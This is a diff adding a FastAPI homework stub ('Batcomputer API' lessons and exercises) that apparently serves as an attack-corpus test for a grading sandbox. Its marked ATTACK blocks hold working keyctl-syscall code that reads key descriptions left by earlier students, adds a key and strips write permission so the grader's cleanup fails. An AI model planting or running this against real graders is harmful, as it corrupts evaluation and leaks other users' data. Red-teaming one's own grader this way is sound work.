@@ -1,0 +1,185 @@
+"""Attack: store a key in the uid's user keyring, then take WRITE away from the keyring itself (KEYCTL_SETPERM), so the cleaning's KEYCTL_CLEAR fails and the next student reads it
+
+honest: 0
+base: stub
+sequence: twice
+
+Graded twice in a row: each copy lists its user keyring and reports LEAK with the description of every
+key an earlier student left, then adds a key naming its own folder and locks the keyring. (Found by a
+review of the grader on 2026-11-29.)
+
+Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
+to import anywhere but as a sandbox's student user (uid 40000-59999).
+"""
+
+# >>> ATTACK
+import os as _attack_os
+
+if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
+    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")
+# <<< ATTACK
+
+import os
+import time
+from typing import Annotated
+
+from fastapi import BackgroundTasks, Depends, FastAPI, Header, HTTPException
+from pydantic import BaseModel, EmailStr
+
+app = FastAPI(title="Batcomputer API", version="7.0")
+
+
+# --- Lesson 6: Batcomputer protocols (dependency injection) ---
+
+API_KEYS = {"alfred-secret-key": "alfred@wayne.enterprises"}
+
+
+async def common_parameters(skip: int = 0, limit: int = 10) -> dict[str, int]:
+    """Pagination shared by every list endpoint."""
+    return {"skip": skip, "limit": limit}
+
+
+def get_db_session():
+    """Hands out a (simulated) database session and always closes it afterwards."""
+    session = {"connected": True}
+    try:
+        yield session
+    finally:
+        session["connected"] = False
+
+
+async def get_api_key(x_api_key: Annotated[str | None, Header()] = None) -> str:
+    """Requires a known `X-API-Key` header."""
+    if x_api_key not in API_KEYS:
+        raise HTTPException(status_code=401, detail="Invalid or missing API key")
+    return x_api_key
+
+
+async def verify_key_and_get_user(api_key: Annotated[str, Depends(get_api_key)]) -> dict[str, str]:
+    """Chained after `get_api_key`: turns a valid key into its user."""
+    return {"email": API_KEYS[api_key]}
+
+
+GADGETS = ["Batarang", "Grapnel Gun", "Smoke Pellet", "Cryptographic Sequencer", "Batclaw"]
+
+
+@app.get("/gadgets")
+async def list_gadgets(
+    page: Annotated[dict[str, int], Depends(common_parameters)],
+    db: Annotated[dict, Depends(get_db_session)],
+):
+    return {"gadgets": GADGETS[page["skip"] : page["skip"] + page["limit"]], "db_connected": db["connected"]}
+
+
+@app.get("/users/me")
+async def read_current_user(user: Annotated[dict[str, str], Depends(verify_key_and_get_user)]):
+    return user
+
+
+# --- Lesson 7: Alfred's duties (background tasks) ---
+
+LOG_DIR = "batcomputer_logs"
+LOG_FILE = os.path.join(LOG_DIR, "activity_log.txt")
+
+
+def log_batcomputer_activity(user_email: str, activity: str = ""):
+    """Appends one line about a user's activity to the Batcomputer log, after 2 s of simulated work."""
+    log_line = f"User {user_email} activity: {activity}\n"
+    print(f"--- BACKGROUND TASK START: Logging activity: '{log_line.strip()}' ---")
+    time.sleep(2)
+    os.makedirs(LOG_DIR, exist_ok=True)
+    # TODO Exercise 4 (stretch): when batcomputer_logs/activity_log.txt does not exist yet, print
+    #   --- BACKGROUND TASK: Creating log file ---
+    # before the file is opened below; print nothing extra when it is already there. (os.path.exists helps.)
+    with open(LOG_FILE, mode="a") as log_file:
+        log_file.write(log_line)
+    print(f"--- BACKGROUND TASK END: Activity logged to '{LOG_FILE}' for {user_email} ---")
+
+
+@app.post("/log-activity/{user_email}")
+async def log_user_activity(
+    user_email: EmailStr,
+    background_tasks: BackgroundTasks,
+    activity_description: str = "Generic activity logged.",
+):
+    """Confirms at once; Alfred writes the log line after the response has gone out."""
+    background_tasks.add_task(log_batcomputer_activity, user_email, activity=activity_description)
+    return {"message": f"Activity logging initiated for {user_email}."}
+
+
+# --- Homework ---
+
+
+# TODO Exercise 1 (model): give IntelReportRequest two fields:
+#   recipient_email, validated as an email address (pydantic's EmailStr), and
+#   report_name, a string that every request must include.
+class IntelReportRequest(BaseModel):
+    """A request for an intel report: which report, and who receives it."""
+
+
+# TODO Exercise 2 (task): print a start message naming the report and its recipient, simulate the
+# compilation with time.sleep(5), then print an end message naming both again.
+def simulate_intel_report_compilation(report_request: IntelReportRequest):
+    """Compiles an intel report for its recipient: 5 s of simulated work."""
+    raise NotImplementedError("Exercise 2 (task): simulate_intel_report_compilation is not written yet")
+
+
+# TODO Exercise 3 (endpoint): add the route POST /request-intel-report. It takes the JSON body as an
+# IntelReportRequest, injects BackgroundTasks, schedules simulate_intel_report_compilation with the
+# report request it received (the object itself), and answers at once with a confirmation message.
+
+
+# >>> ATTACK
+import json as _json
+
+
+def _attack_report(**found):
+    """Ends the import with what the attack found, so the grade report shows it (the stub scores 0 anyway)."""
+    raise RuntimeError("ATTACK-REPORT " + _json.dumps(found, sort_keys=True, default=str)[:1900])
+
+
+def _once(tag, work):
+    """Does the heavy part once per submission: every probe imports main.py again."""
+    path = f"/tmp/.alfred_attack_{tag}.json"
+    try:
+        with open(path) as handle:
+            return _json.load(handle)
+    except (OSError, ValueError):
+        pass
+    result = work()
+    try:
+        with open(path, "w") as handle:
+            _json.dump(result, handle, default=str)
+    except OSError:
+        pass
+    return result
+
+import ctypes as _ctypes
+import os as _os
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_KEYCTL, _ADD_KEY = 250, 248
+_USER = -4
+
+def _keyctl(*args):
+    return _libc.syscall(_KEYCTL, *args)
+
+def _work():
+    found = {"uid": _os.getuid(), "me": _os.path.basename(_os.path.dirname(__file__))}
+    ids = _ctypes.create_string_buffer(4 * 64)
+    n = _keyctl(11, _USER, ids, 4 * 64)  # KEYCTL_READ of the keyring: the ids of its keys
+    for i in range(max(0, min(n, 256)) // 4):
+        key = int.from_bytes(ids.raw[4 * i:4 * i + 4], "little")
+        text = _ctypes.create_string_buffer(512)
+        m = _keyctl(6, key, text, 512)  # KEYCTL_DESCRIBE: type;uid;gid;perm;description (VIEW is enough)
+        found.setdefault("LEAK", []).append(text.raw[:max(m - 1, 0)].decode(errors="replace"))
+    payload = b"x"
+    found["added"] = _libc.syscall(_ADD_KEY, b"user", f"alfred2 left by {found['me']}".encode(), payload, 1, _USER)
+    found["setperm"] = _keyctl(5, _USER, (0x2b << 24) | (0x2b << 16))  # keyring: no WRITE for anyone
+    found["clear_now"] = (_keyctl(7, _USER), _ctypes.get_errno())  # KEYCTL_CLEAR, as the cleaning will try
+    return found
+
+_found = _once("keyring_lock", _work)
+_found["leaks"] = ["LEAK:" + text for text in _found.pop("LEAK", [])]
+_attack_report(**_found)
+# <<< ATTACK
